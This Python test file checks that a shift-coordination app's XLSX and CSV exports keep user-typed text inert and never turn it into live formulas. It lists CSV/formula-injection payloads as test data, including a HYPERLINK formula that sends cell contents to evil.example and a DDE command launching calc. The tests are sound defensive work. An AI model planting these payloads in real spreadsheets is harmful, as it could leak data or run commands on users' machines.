"""No live formulas in exports: text typed by people reaches a spreadsheet as text.

Hostile names, report texts, place, area, meeting-point and organisation names go through every
export kind; the XLSX is read back with openpyxl cell by cell (no formula cell, each payload a
string cell, verbatim), the CSV field by field (each payload behind an apostrophe), and, where
LibreOffice is installed, the files are converted by it and the payloads come back as text.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlmodel import col, update

from bot.cli.export import swedish
from evaluation import exports
from evaluation.exports.text_cells import could_start_formula
from models.tables import Area, Organisation, Person, Report, Shift
from scheduling.common.context import Context
from scheduling.people.access import Actor
from tests.coord_data import build

NOV_1, NOV_30 = date(2026, 11, 1), date(2026, 11, 30)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klicka")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [
    HYPERLINK,
    DDE,
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1+2",
    "－2+4",
    "＠SUM(2)",
    " =3+3",
    "\n=4+4",
    "﹦5+5",
    # spaces of other widths and invisible characters before the formula
    "\u2003=6+6",
    "\u202f\u2009+7",
    "\u200b=8+8",
    "\ufeff@SUM(9)",
    "\u2060 -10+10",
]
NUMBER = re.compile(r"-?\d+(,\d+)?$")


def hostile_table() -> exports.Table:
    """Every payload as a text cell, next to a negative number, a decimal and a date."""
    return exports.Table(
        "shifts",
        [
            exports.Column("notes"),
            exports.Column("walker_hours", "decimal"),
            exports.Column("planned_hours", "int"),
            exports.Column("start", "datetime"),
        ],
        [
            [text, Decimal("-1.5"), -3, datetime(2026, 11, 6, 21, 0)]
            for text in [*PAYLOADS, "#N/A", "vanlig text"]
        ],
    )


def same_text(a: str, b: str) -> bool:
    """Equal up to how a line break inside a cell is written."""
    return a.replace("\r\n", "\n").replace("\r", "\n") == b.replace("\r\n", "\n").replace(
        "\r", "\n"
    )


def workbook_cells(raw: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(raw))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def csv_rows(raw: bytes) -> list[list[str]]:
    text = raw.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_xlsx_text_cells_are_strings_never_formulas() -> None:
    """Each payload (and '#N/A') is a string cell, verbatim (XML reads a CR as a line feed);
    numbers and dates keep their types."""
    cells = workbook_cells(exports.render([hostile_table()], swedish, "xlsx"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    notes = [c for c in cells if c.column == 1 and c.row > 1]
    for cell, text in zip(notes, [*PAYLOADS, "#N/A", "vanlig text"], strict=True):
        assert same_text(cell.value, text) and cell.data_type == "s", (cell.value, text)
        assert cell.quotePrefix == (text in PAYLOADS)
    row = [c for c in cells if c.row == 2]
    assert row[1].value == pytest.approx(-1.5) and row[1].data_type == "n"
    assert row[2].value == -3 and row[2].data_type == "n"
    assert row[3].value == datetime(2026, 11, 6, 21, 0) and row[3].is_date


def test_csv_fields_that_could_start_a_formula_get_an_apostrophe() -> None:
    """OWASP's rule: = + - @ tab CR (and full-width forms) behind a ', numbers untouched."""
    rows = csv_rows(exports.render([hostile_table()], swedish, "csv"))
    notes = [row[0] for row in rows[1:]]
    assert notes == [*("'" + text for text in PAYLOADS), "#N/A", "vanlig text"]
    assert {row[1] for row in rows[1:]} == {"-1,5"} and {row[2] for row in rows[1:]} == {"-3"}


def test_control_characters_become_a_replacement_mark_not_a_failed_export() -> None:
    """A name with a bell character still exports (XML cannot hold it): U+FFFD stands in."""
    table = exports.Table("signups", [exports.Column("name")], [["Ann\x07=1"], ["\x01=2"]])
    cells = workbook_cells(exports.render([table], swedish, "xlsx"))
    assert [c.value for c in cells[1:]] == ["Ann\ufffd=1", "\ufffd=2"]
    assert {c.data_type for c in cells} == {"s"}


async def make_everything_hostile(ctx: Context) -> None:
    """The November data set with every text a person could type replaced by a payload."""
    data = await build(ctx)
    names = iter(PAYLOADS)
    place = "=A1+A2"
    async with ctx.store.transaction() as session:
        for org in (data.org_a, data.org_b):
            name = next(names)
            await session.exec(
                update(Organisation)
                .where(col(Organisation.id) == org)
                .values(name=name, name_key=name.casefold())
            )
        for area in (data.baronen, data.larmtorget):
            name, point = next(names), next(names)
            await session.exec(
                update(Area)
                .where(col(Area.id) == area)
                .values(name=name, name_key=name.casefold(), meeting_point=point)
            )
        for person in data.people.values():
            await session.exec(
                update(Person).where(col(Person.id) == person).values(name=next(names))
            )
        await session.exec(update(Shift).values(notes="@notes"))
        await session.exec(
            update(Report).values(
                summary=HYPERLINK.replace("A1", "B2"),
                areas=["-1+1", "@A1"],
                place_issues=[{"place": place, "category": "glass"}],
            )
        )


async def test_every_export_keeps_hostile_text_as_text(ctx: Context) -> None:
    """All kinds, with contacts: no formula cell in the XLSX; each CSV field safe to open."""
    await make_everything_hostile(ctx)
    strings: list[str] = []
    for kind in exports.KINDS:
        request = exports.ExportRequest(kind, NOV_1, NOV_30, True)  # type: ignore[arg-type]
        tables = await exports.build_export(ctx, Actor.operator(), request, swedish)
        cells = workbook_cells(exports.render(tables, swedish, "xlsx"))
        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
        hostile = [c for c in cells if isinstance(c.value, str) and could_start_formula(c.value)]
        assert all(c.data_type == "s" and c.quotePrefix for c in hostile), kind
        strings += [c.value for c in cells if isinstance(c.value, str)]
        for row in csv_rows(exports.render(tables, swedish, "csv")):
            unsafe = [f for f in row if could_start_formula(f) and not NUMBER.match(f)]
            assert not unsafe, (kind, unsafe)
    for text in [*PAYLOADS[:12], "@notes", "=A1+A2", HYPERLINK.replace("A1", "B2")]:
        assert any(same_text(text, value[: len(text)]) for value in strings), repr(text)


def soffice_or_skip() -> str:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed here; .ci/run installs it")
    return soffice


def libreoffice_convert(source: Path, target: str, tmp_path: Path, *extra: str) -> Path:
    """``soffice --headless --convert-to target`` into tmp_path/converted; the new file."""
    outdir = tmp_path / "converted"
    result = subprocess.run(
        [
            soffice_or_skip(),
            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
            "--headless",
            *extra,
            "--convert-to",
            target,
            "--outdir",
            str(outdir),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    converted = outdir / f"{source.stem}.{target.split(':')[0]}"
    assert converted.exists(), result.stderr
    return converted


def test_libreoffice_reads_the_xlsx_payloads_as_text(tmp_path: Path) -> None:
    """LibreOffice turns the workbook into CSV (formula results, not formulas): each cell is
    the payload itself, so none of them was evaluated."""
    source = tmp_path / "hostile.xlsx"
    source.write_bytes(exports.render([hostile_table()], swedish, "xlsx"))
    converted = libreoffice_convert(source, "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path)
    rows = list(csv.reader(io.StringIO(converted.read_text("utf-8"), newline="")))
    notes = [row[0] for row in rows[1:]]
    assert len(notes) == len(PAYLOADS) + 2
    for got, text in zip(notes, PAYLOADS, strict=False):
        assert same_text(got, text), (got, text)


def test_libreoffice_opens_the_csv_without_formulas(tmp_path: Path) -> None:
    """LibreOffice imports the CSV (';', UTF-8) and saves it as XLSX: no formula cell, every
    payload still there as text."""
    source = tmp_path / "hostile.csv"
    source.write_bytes(exports.render([hostile_table()], swedish, "csv"))
    infilter = "--infilter=Text - txt - csv (StarCalc):59,34,76,1"
    converted = libreoffice_convert(source, "xlsx", tmp_path, infilter)
    cells = workbook_cells(converted.read_bytes())
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    notes = [str(c.value) for c in cells if c.column == 1 and c.row > 1]
    for got, text in zip(notes, PAYLOADS, strict=False):
        assert same_text(got.lstrip("'"), text), (got, text)
